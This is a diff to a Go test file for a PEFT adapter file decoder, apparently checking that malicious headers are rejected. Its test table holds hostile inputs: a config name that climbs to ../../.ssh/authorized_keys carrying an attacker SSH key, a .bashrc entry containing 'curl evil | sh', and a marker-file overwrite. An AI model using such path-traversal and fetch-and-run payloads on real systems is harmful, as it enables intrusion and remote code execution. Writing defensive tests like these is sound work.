@@ -39,10 +39,10 @@ func zeroTensors(count int, dtype string, n int64) []Coded {
 	return cs
 }
 
-const loraConfig = `{"peft_type":"LORA","r":16}`
+const attackConfig = `{"peft_type":"LORA","r":16}`
 
 func loraHeader() Header {
-	return Header{PeftType: "LORA", ConfigName: AdapterConfigFile, Config: loraConfig, Density: 0.2, Alpha: "auto", Scope: ScopeGlobal}
+	return Header{PeftType: "LORA", ConfigName: AdapterConfigFile, Config: attackConfig, Density: 0.2, Alpha: "auto", Scope: ScopeGlobal}
 }
 
 // zeros is a tensor of n zeros: kept 0, an empty payload.
@@ -50,7 +50,7 @@ func zeros(name, dtype string, shape ...int64) Coded {
 	return Coded{TensorHeader: TensorHeader{Name: name, DType: dtype, Shape: shape, Mode: modeSparse, M: 1}}
 }
 
-func withConfig(name, config string) Header {
+func attackWithConfig(name, config string) Header {
 	h := loraHeader()
 	h.ConfigName, h.Config = name, config
 	return h
@@ -58,11 +58,11 @@ func withConfig(name, config string) Header {
 
 var attacks = []attack{
 	{file: "config-traversal.cpeft", what: "config name ../../.ssh/authorized_keys: was written as DIR/authorized_keys",
-		header: withConfig("../../.ssh/authorized_keys", `"ssh-ed25519 AAAA attacker"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
+		header: attackWithConfig("../../.ssh/authorized_keys", `"ssh-ed25519 AAAA attacker"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
 	{file: "config-dotfile.cpeft", what: "config name .bashrc in the output directory",
-		header: withConfig(".bashrc", `"curl evil | sh"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
+		header: attackWithConfig(".bashrc", `"curl evil | sh"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
 	{file: "config-marker.cpeft", what: "config name .expertd.json: would overwrite the hand-off marker",
-		header: withConfig(".expertd.json", `{"cid":"bafkrei..."}`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
+		header: attackWithConfig(".expertd.json", `{"cid":"bafkrei..."}`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
 
 	// Decompression bombs: zeros cost no payload, so a few hundred bytes
 	// declare any size; what they declare is checked before writing.
@@ -144,7 +144,7 @@ func TestConfigNames(t *testing.T) {
 		peft, name, config string
 		ok                 bool
 	}{
-		{"LORA", AdapterConfigFile, loraConfig, true},
+		{"LORA", AdapterConfigFile, attackConfig, true},
 		{"IA3", AdapterConfigFile, `{}`, true},
 		{"LORA", "", "", true},
 		{PeftTypeFull, ModelConfigFile, `{"model_type":"gpt2"}`, true},
